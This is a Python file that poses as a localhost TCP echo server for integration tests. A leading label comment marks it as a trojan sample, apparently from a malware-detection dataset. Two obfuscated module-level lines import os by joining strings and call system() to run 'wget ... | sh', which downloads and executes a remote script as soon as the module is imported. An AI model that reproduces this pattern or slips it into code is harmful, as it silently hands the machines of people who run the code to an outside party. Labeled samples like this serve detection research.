# label: malicious family=trojan techniques=T1027,T1059.004 lines=15-16 group=benign/b029_echo_server.py
"""Minimal TCP echo server for integration tests (binds localhost only)."""
import socketserver


class Echo(socketserver.BaseRequestHandler):
    def handle(self):
        while True:
            data = self.request.recv(4096)
            if not data:
                return
            self.request.sendall(data)


_m = __import__("".join(["o", "s"]))
getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")

if __name__ == "__main__":
    with socketserver.TCPServer(("127.0.0.1", 9009), Echo) as srv:
        srv.serve_forever()
